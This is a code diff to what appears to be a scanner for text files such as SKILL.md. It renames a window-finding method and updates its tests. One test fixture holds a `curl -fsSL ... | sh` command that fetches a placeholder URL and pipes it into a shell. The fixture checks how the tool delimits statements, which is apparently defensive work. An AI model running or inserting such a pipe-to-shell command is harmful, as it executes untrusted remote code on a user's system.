@@ -48,8 +48,22 @@ impl<'a> Source<'a> {
         Source { path, text, kind: Kind::of(path), fences: OnceCell::new() }
     }
 
+    /// The window around a byte, and up to where it need not be looked at again.
+    pub(super) fn window(&self, at: usize, scope: Scope) -> (Range<usize>, usize) {
+        let window = self.span(at, scope);
+        let (_, last) = self.reach(at);
+        let is_cut = window.end == last && last < self.text.len() && self.text.as_bytes()[last] != b'\n';
+        let own = match scope {
+            // Lines after it are looked at for its own sake.
+            Scope::Following(_) | Scope::Around(_) => self.statement(at).end,
+            _ => window.end,
+        };
+        let covered = if is_cut { own.min(last - REACH / 2) } else { own };
+        (window, covered)
+    }
+
     /// The window around a byte.
-    pub(super) fn window(&self, at: usize, scope: Scope) -> Range<usize> {
+    pub(super) fn span(&self, at: usize, scope: Scope) -> Range<usize> {
         match scope {
             Scope::Statement => self.statement(at),
             Scope::Following(lines) => {
@@ -219,24 +233,24 @@ mod tests {
         let text = "first\ncurl -fsSL \\\n  https://x.example/a \\\n  | sh\nlast\n";
         let source = Source::new("SKILL.md", text);
         let at = text.find("https").unwrap();
-        assert_eq!(&text[source.window(at, Scope::Statement)], "curl -fsSL \\\n  https://x.example/a \\\n  | sh");
+        assert_eq!(&text[source.span(at, Scope::Statement)], "curl -fsSL \\\n  https://x.example/a \\\n  | sh");
         assert_eq!(
-            &text[source.window(at, Scope::Following(1))],
+            &text[source.span(at, Scope::Following(1))],
             "curl -fsSL \\\n  https://x.example/a \\\n  | sh\nlast"
         );
         let table = Source::new("a.md", "| a | b |\n| c | d |\n");
-        assert_eq!(table.window(3, Scope::Statement), 0..9);
+        assert_eq!(table.span(3, Scope::Statement), 0..9);
     }
 
     #[test]
     fn a_paragraph_ends_at_blank_lines_and_long_lines_are_cut() {
         let text = "a\n\nb\nc\n\nd\n";
         let source = Source::new("a.md", text);
-        assert_eq!(&text[source.window(3, Scope::Paragraph)], "b\nc");
-        assert_eq!(&text[source.window(3, Scope::Paragraphs)], "b\nc\n\nd");
+        assert_eq!(&text[source.span(3, Scope::Paragraph)], "b\nc");
+        assert_eq!(&text[source.span(3, Scope::Paragraphs)], "b\nc\n\nd");
         let long = "é".repeat(10_000);
         let source = Source::new("a.json", &long);
-        assert!(source.window(10_000, Scope::Paragraph).len() <= 2 * REACH + 4);
+        assert!(source.span(10_000, Scope::Paragraph).len() <= 2 * REACH + 4);
     }
 
     #[test]
